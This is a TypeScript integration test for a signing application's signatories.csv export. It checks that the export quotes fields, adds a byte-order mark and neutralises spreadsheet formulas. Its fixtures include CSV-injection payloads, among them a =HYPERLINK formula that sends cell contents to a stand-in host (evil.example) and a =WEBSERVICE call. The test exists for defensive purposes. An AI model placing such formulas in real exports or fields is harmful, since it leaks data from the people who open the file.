import { DocumentStatus, ParticipantKind } from '@accord/common';
import { MeetingEntity } from '@accord/meetings';
import request from 'supertest';
import { createDocumentInStatus, TestDocument } from '../support/document-factory';
import { createParticipant, createWorld, World } from '../support/factories';
import { createTestApp, TestApp } from '../support/test-app';

const SIGN = `mutation($documentId: ID!, $statement: String) {
  signDocument(documentId: $documentId, statement: $statement) { id }
}`;
const RECORD = `mutation($input: RecordSignatureInput!) { recordSignature(input: $input) { id } }`;
const WITHDRAW = `mutation($id: ID!, $reason: String!) {
  withdrawSignature(signatureId: $id, reason: $reason) { id }
}`;

/** RFC 4180 as a spreadsheet reads it: quoted fields may hold commas, quotes, CR and LF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      records.push([...record, field]);
      record = [];
      field = '';
      i++;
    } else if (c === '\r' || c === '\n') {
      throw new Error(`bare line break outside quotes at ${i}: the record would be split`);
    } else field += c;
  }
  if (field || record.length) records.push([...record, field]);
  return records;
}

const HYPERLINK = 'ok\n=HYPERLINK("http://evil.example/?leak="&A1,"click")';

/**
 * signatories.csv against hostile text: statements, withdrawal reasons and meeting titles that
 * try to break out of their cell or to run as formulas in the spreadsheet of whoever opens it.
 */
describe('exports: signatories.csv cannot be turned against its readers', () => {
  let t: TestApp;
  let w: World;
  let doc: TestDocument;
  let csv: string;
  let res: request.Response;
  const hostile = {
    statementA: HYPERLINK,
    statementB: 'Agreed.\r+SUM(1,2)\r\n-3\n@cmd\n\tx, "quoted" and ;semi',
    statementCompany: '=1+1',
    reason: 'Board;decision\r\n=WEBSERVICE("http://evil.example")',
    meeting: '@Conference, Paris "2025"',
  };

  beforeAll(async () => {
    t = await createTestApp();
    w = await createWorld(t);
    const meeting = await t.dataSource.getRepository(MeetingEntity).save({
      title: hostile.meeting,
      city: 'Paris',
      venue: null,
      timezone: 'Europe/Paris',
      startsAt: new Date(Date.now() - 7_200_000),
      endsAt: new Date(Date.now() - 3_600_000),
    });
    doc = await createDocumentInStatus(t, {
      status: DocumentStatus.OPEN_FOR_SIGNATURE,
      eligibleKinds: [ParticipantKind.STATE, ParticipantKind.COMPANY],
    });
    // Accents, for the byte-order mark.
    const accented = await createParticipant(t, w.secretariat.actor, {
      kind: ParticipantKind.COMPANY,
      name: 'Société Générale de Sécurité',
    });
    const ok = (r: { errors?: unknown[] }) => expect(r.errors).toBeUndefined();
    ok(await t.gql(SIGN, { documentId: doc.id, statement: hostile.statementA }, w.headA.token));
    const record = (participantId: string, statement: string | null, meetingId?: string) =>
      t.gql(
        RECORD,
        { input: { documentId: doc.id, participantId, statement, meetingId } },
        w.secretariat.token,
      );
    ok(await record(w.stateB.id, hostile.statementB, meeting.id));
    const company = await record(w.company.id, hostile.statementCompany);
    ok(company);
    ok(await record(accented.id, null));
    ok(
      await t.gql(
        WITHDRAW,
        { id: company.data!.recordSignature.id, reason: hostile.reason },
        w.secretariat.token,
      ),
    );
    res = await request(t.http)
      .get(`/documents/${doc.slug}/signatories.csv?includeWithdrawn=true`)
      .buffer(true)
      .parse((response, done) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => done(null, Buffer.concat(chunks)));
      });
    csv = (res.body as Buffer).toString('utf8');
  });

  afterAll(() => t?.close());

  it('is served as a UTF-8 CSV attachment, never rendered inline', () => {
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="${doc.slug}-signatories.csv"`,
    );
  });

  it('starts with a UTF-8 byte-order mark, so that spreadsheet programs read the accents', () => {
    const bytes = res.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv).toContain('Société Générale de Sécurité');
  });

  it('keeps every record in its eleven columns: fields with separators, quotes, CR or LF are quoted', () => {
    const records = parseCsv(csv.replace(/^\uFEFF/, ''));
    expect(records).toHaveLength(1 + 4);
    for (const record of records) expect(record).toHaveLength(11);
    const statementOf = (name: string) => records.find((r) => r[0] === name)![6];
    // What a reader sees is the text as written, each formula start behind an apostrophe.
    expect(statementOf(w.stateA.name)).toBe(
      'ok\n\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    );
    expect(statementOf(w.stateB.name)).toBe(
      "Agreed.\r'+SUM(1,2)\r\n'-3\n'@cmd\n'\tx, \"quoted\" and ;semi",
    );
    const company = records.find((r) => r[0] === w.company.name)!;
    expect(company[6]).toBe("'=1+1");
    expect(company[9]).toBe('Board;decision\r\n\'=WEBSERVICE("http://evil.example")');
    expect(records.find((r) => r[0] === w.stateB.name)![5]).toBe(`'${hostile.meeting}`);
  });

  it('leaves no cell, and no line inside a cell, starting with a formula character', () => {
    const cells = parseCsv(csv.replace(/^\uFEFF/, '')).flat();
    for (const cell of cells) {
      for (const line of cell.split(/\r\n|\r|\n/)) expect(line).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
